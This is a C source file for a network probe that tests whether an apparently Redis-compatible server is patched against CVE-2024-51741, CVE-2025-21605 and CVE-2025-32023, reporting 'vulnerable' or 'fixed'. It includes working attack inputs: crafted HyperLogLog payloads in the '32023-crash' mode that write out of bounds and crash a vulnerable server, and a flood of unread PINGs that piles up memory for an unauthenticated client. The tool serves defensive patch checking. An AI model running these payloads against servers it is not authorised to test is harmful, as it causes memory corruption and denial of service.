/*
 * One question per CVE, asked over the wire: does this server still have the bug?
 *
 *   probe WHICH HOST PORT [PASSWORD]
 *
 * prints {"probe":…,"answer":"vulnerable"|"fixed","detail":…} and exits 0; 1 when there was no
 * conclusive answer, 2 for usage. All but 32023-crash leave the server as they found it, so they
 * may be asked of a live one, before and after.
 *
 *   51741        ACL SETUSER x %   answered OK before, a syntax error after
 *   21605        replies pile up for a client that has not authenticated and does not read
 *   32023        a sparse HyperLogLog whose run lengths add up to 2^32 + 16384 wraps round to a
 * valid length: counted before, INVALIDOBJ after. Writes nowhere: safe on a live server 32023-crash
 * the payload of upstream's own test: writes out of bounds before and kills the server
 */
#define _GNU_SOURCE
#include "resp.h"

#include <arpa/inet.h>
#include <errno.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define TIMEOUT_MS    20000
#define HLL_REGISTERS 16384

static const char *host, *password;
static int port;
static const char *which;

static int answer(const char *what, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static int answer(const char *what, const char *fmt, ...)
{
	char detail[400];
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(detail, sizeof(detail), fmt, ap);
	va_end(ap);
	printf("{\"probe\":\"%s\",\"answer\":\"%s\",\"detail\":\"%s\"}\n", which, what, detail);
	return strcmp(what, "vulnerable") && strcmp(what, "fixed");
}

static int broken(const char *doing)
{
	return answer("unknown", "%s: %s", doing, strerror(errno));
}

/* A connection with full rights. */
static int connect_admin(struct resp_conn *c)
{
	struct resp_reply r;
	int ret = 0;

	if (resp_connect(c, host, port, TIMEOUT_MS, 0) < 0)
		return -1;
	if (!password)
		return 0;
	if (resp_callf(c, &r, "AUTH %s", password) < 0 || !resp_is(&r, RESP_STATUS, "OK")) {
		errno = EACCES;
		ret = -1;
	}
	resp_free(&r);
	if (ret < 0)
		resp_close(c);
	return ret;
}

/* ---- CVE-2024-51741 -------------------------------------------------------------------------- */

static int probe_51741(void)
{
	static const char fixed[] = "ERR Error in ACL SETUSER modifier '%': Syntax error";
	struct resp_conn c;
	struct resp_reply r, ctl1, ctl2, del;
	char shown[128];
	int ret;

	if (connect_admin(&c) < 0)
		return broken("connect");
	/* two controls that answer the same with and without the fix: the parser as a whole works
	 */
	if (resp_callf(&c, &ctl1, "ACL SETUSER suture-probe %%RW~key*") < 0 ||
	    resp_callf(&c, &ctl2, "ACL SETUSER suture-probe %%~") < 0 ||
	    resp_callf(&c, &r, "ACL SETUSER suture-probe %%") < 0 ||
	    resp_callf(&c, &del, "ACL DELUSER suture-probe") < 0)
		return broken("ACL");
	resp_show(&r, shown, sizeof(shown));
	if (!resp_is(&ctl1, RESP_STATUS, "OK") ||
	    !resp_is(&ctl2, RESP_ERROR, "ERR Error in ACL SETUSER modifier '%~': Syntax error"))
		ret = answer("unknown", "the control requests were answered wrongly");
	else if (resp_is(&r, RESP_STATUS, "OK"))
		ret = answer("vulnerable", "%s", shown);
	else if (resp_is(&r, RESP_ERROR, fixed))
		ret = answer("fixed", "%s", shown);
	else
		ret = answer("unknown", "%s", shown);
	resp_free(&r);
	resp_free(&ctl1);
	resp_free(&ctl2);
	resp_free(&del);
	resp_close(&c);
	return ret;
}

/* ---- CVE-2025-21605 -------------------------------------------------------------------------- */

/* The output memory of the client with this id, from CLIENT LIST; -1 if it is gone. */
static long long client_omem(struct resp_conn *admin, long long id)
{
	struct resp_reply r;
	long long omem = -2;
	char *at;

	if (resp_callf(admin, &r, "CLIENT LIST ID %lld", id) == 0 && r.type == RESP_BULK) {
		at = strstr(r.str, " omem=");
		omem = at ? strtoll(at + 6, NULL, 10) : -1;
	}
	resp_free(&r);
	return omem;
}

/* Finds our second connection by its local port, which CLIENT LIST shows as addr=host:port. */
static long long client_id(struct resp_conn *admin, int local_port)
{
	struct resp_reply r;
	char addr[64];
	long long id = -1;

	snprintf(addr, sizeof(addr), " addr=%s:%d ", host, local_port);
	if (resp_callf(admin, &r, "CLIENT LIST") == 0 && r.type == RESP_BULK) {
		char *save = NULL;

		for (char *l = strtok_r(r.str, "\n", &save); l; l = strtok_r(NULL, "\n", &save))
			if (strstr(l, addr))
				id = strtoll(l + 3, NULL, 10);
	}
	resp_free(&r);
	return id;
}

static int probe_21605(void)
{
	enum { CHUNK = 4000, CHUNKS = 250, PROOF = 1 << 20 };
	struct sockaddr_in sa;
	socklen_t salen = sizeof(sa);
	struct resp_conn admin, mute;
	struct resp_reply r;
	long long id, omem = 0;
	char *chunk;
	int sent = 0, ret;

	if (!password)
		return answer("unknown", "needs a server with requirepass");
	if (connect_admin(&admin) < 0)
		return broken("connect");
	/* a small receive buffer, so that little of it hides in the socket */
	if (resp_connect(&mute, host, port, TIMEOUT_MS, 4096) < 0)
		return broken("connect");
	if (resp_callf(&mute, &r, "SET x 5") < 0)
		return broken("SET");
	if (r.type != RESP_ERROR || strncmp(r.str, "NOAUTH", 6))
		return answer("unknown", "the server asks for no password");
	resp_free(&r);
	getsockname(mute.fd, (struct sockaddr *)&sa, &salen);
	id = client_id(&admin, ntohs(sa.sin_port));
	if (id < 0)
		return answer("unknown", "own connection not in CLIENT LIST");

	/*
	 * Requests without ever reading: 33 bytes of reply for each 6 sent. What the sockets
	 * swallow is a few hundred KiB; beyond that it piles up in the server. The fix closes the
	 * client at 1 KiB of queued replies, so 1 MiB is far on the other side: the measure has no
	 * grey zone.
	 */
	chunk = malloc(CHUNK * 6);
	if (!chunk)
		return broken("malloc");
	for (int i = 0; i < CHUNK; i++)
		memcpy(chunk + i * 6, "PING\r\n", 6);
	while (sent < CHUNKS && omem >= 0 && omem < PROOF) {
		if (resp_write(&mute, chunk, CHUNK * 6) < 0) {
			omem = -1;
			break;
		}
		sent++;
		omem = client_omem(&admin, id);
	}
	/* asynchronous close: the last word is CLIENT LIST's */
	for (int i = 0; i < 50 && omem < PROOF; i++) {
		omem = client_omem(&admin, id);
		if (omem < 0)
			break;
		nanosleep(&(struct timespec){.tv_nsec = 20000000}, NULL);
	}
	free(chunk);
	if (omem >= PROOF)
		ret = answer("vulnerable", "omem=%lld after %d unread requests, still connected",
			     omem, sent * CHUNK);
	else if (omem == -1)
		ret = answer("fixed", "closed by the server within %d unread requests",
			     sent * CHUNK);
	else
		ret = answer("unknown", "omem=%lld after %d unread requests", omem, sent * CHUNK);
	resp_close(&mute);
	resp_close(&admin);
	return ret;
}

/* ---- CVE-2025-32023 -------------------------------------------------------------------------- */

/*
 * A sparse HyperLogLog: 16 bytes of header ("HYLL", encoding 1 = sparse, 3 unused, 8 of cached
 * cardinality, whose last byte's top bit means "stale: count it"), then `repeat` times one opcode,
 * then the bytes of `tail`.
 */
static char *hll(const void *op, size_t oplen, size_t repeat, const void *tail, size_t taillen,
		 size_t *len)
{
	char *p = calloc(1, 16 + oplen * repeat + taillen), *at;

	if (!p)
		return NULL;
	memcpy(p, "HYLL\1", 5);
	p[15] = (char)0x80;
	at = p + 16;
	for (size_t i = 0; i < repeat; i++, at += oplen)
		memcpy(at, op, oplen);
	memcpy(at, tail, taillen);
	*len = 16 + oplen * repeat + taillen;
	return p;
}

static const unsigned char xzero_max[] = {0x7f, 0xff}; /* XZERO, run length 16384 */
static const unsigned char zero_max[] = {0x3f};	       /* ZERO, run length 64 */

static int set_key(struct resp_conn *c, const char *key, const char *val, size_t len)
{
	const char *argv[] = {"SET", key, val};
	size_t lens[] = {3, strlen(key), len};
	struct resp_reply r;
	int ret;

	ret = resp_sendv(c, 3, argv, lens) < 0 || resp_read(c, &r) < 0 ? -1 : 0;
	if (!ret && !resp_is(&r, RESP_STATUS, "OK")) {
		errno = EPROTO;
		ret = -1;
	}
	if (!ret)
		resp_free(&r);
	return ret;
}

static bool invalid(const struct resp_reply *r)
{
	return r->type == RESP_ERROR && !strncmp(r->str, "INVALIDOBJ", 10);
}

static int probe_32023(void)
{
	struct resp_conn c;
	struct resp_reply count, merge, dense, del;
	char *payload;
	size_t len;
	int ret, bad;

	if (connect_admin(&c) < 0)
		return broken("connect");
	/* 262,145 runs of 16,384: 2^32 + 16,384, which an int takes for 16,384, the one valid
	 * length */
	payload = hll(xzero_max, 2, (1u << 18) + 1, "", 0, &len);
	if (!payload || set_key(&c, "suture-probe-hll", payload, len) < 0)
		return broken("SET");
	free(payload);
	/* three ways in, one per fixed function: hllSparseRegHisto, hllMerge, hllSparseToDense */
	if (resp_callf(&c, &count, "PFCOUNT suture-probe-hll") < 0 ||
	    resp_callf(&c, &merge, "PFCOUNT suture-probe-hll suture-probe-hll") < 0 ||
	    resp_callf(&c, &dense, "PFDEBUG GETREG suture-probe-hll") < 0 ||
	    resp_callf(&c, &del, "DEL suture-probe-hll") < 0)
		return broken("PFCOUNT");
	bad = invalid(&count) + invalid(&merge) + invalid(&dense);
	if (bad == 3)
		ret = answer("fixed", "3 of 3 ways in answer INVALIDOBJ");
	else if (bad == 0 && count.type == RESP_INTEGER && merge.type == RESP_INTEGER &&
		 dense.type == RESP_ARRAY && dense.elems == HLL_REGISTERS)
		ret = answer("vulnerable", "accepted as valid: counts %lld and %lld", count.integer,
			     merge.integer);
	else
		ret = answer("unknown", "%d of 3 ways in answer INVALIDOBJ", bad);
	resp_free(&count);
	resp_free(&merge);
	resp_free(&dense);
	resp_free(&del);
	resp_close(&c);
	return ret;
}

/* Upstream's two tests: run lengths beyond 2^31 make the index negative, then a VAL writes there.
 */
static int crash_once(struct resp_conn *c, const void *op, size_t oplen, size_t repeat)
{
	struct resp_reply r;
	char *payload;
	size_t len;
	int ret;

	payload = hll(op, oplen, repeat, "\377", 1, &len);
	if (!payload || set_key(c, "suture-probe-hll", payload, len) < 0)
		return -1;
	free(payload);
	ret = resp_callf(c, &r, "PFCOUNT suture-probe-hll suture-probe-hll");
	if (ret < 0)
		return errno == ECONNRESET ? 0 : -1;
	ret = invalid(&r) ? 1 : -1;
	resp_free(&r);
	if (ret == 1) {
		ret = resp_callf(c, &r, "PFDEBUG GETREG suture-probe-hll") == 0 && invalid(&r) ? 1
											       : -1;
		resp_free(&r);
	}
	return ret;
}

static int probe_32023_crash(void)
{
	struct resp_conn c;
	int xzero, zero;

	if (connect_admin(&c) < 0)
		return broken("connect");
	xzero = crash_once(&c, xzero_max, 2, 131072 + 1000);
	if (xzero < 0)
		return broken("XZERO payload");
	if (xzero == 0)
		return answer("vulnerable", "the server closed the connection without an answer");
	zero = crash_once(&c, zero_max, 1, 33554432 + 1000);
	if (zero <= 0)
		return answer("unknown", "XZERO payload refused, ZERO payload %s",
			      zero ? "odd" : "killed it");
	resp_close(&c);
	return answer("fixed", "XZERO and ZERO payloads answer INVALIDOBJ, the server lives");
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		int (*run)(void);
	} probes[] = {
		{"51741", probe_51741},
		{"21605", probe_21605},
		{"32023", probe_32023},
		{"32023-crash", probe_32023_crash},
	};

	if (argc == 4 || argc == 5) {
		which = argv[1];
		host = argv[2];
		port = atoi(argv[3]);
		password = argc == 5 && *argv[4] ? argv[4] : NULL;
		for (size_t i = 0; i < sizeof(probes) / sizeof(*probes); i++)
			if (!strcmp(which, probes[i].name))
				return probes[i].run();
	}
	fprintf(stderr, "usage: probe 51741|21605|32023|32023-crash HOST PORT [PASSWORD]\n");
	return 2;
}
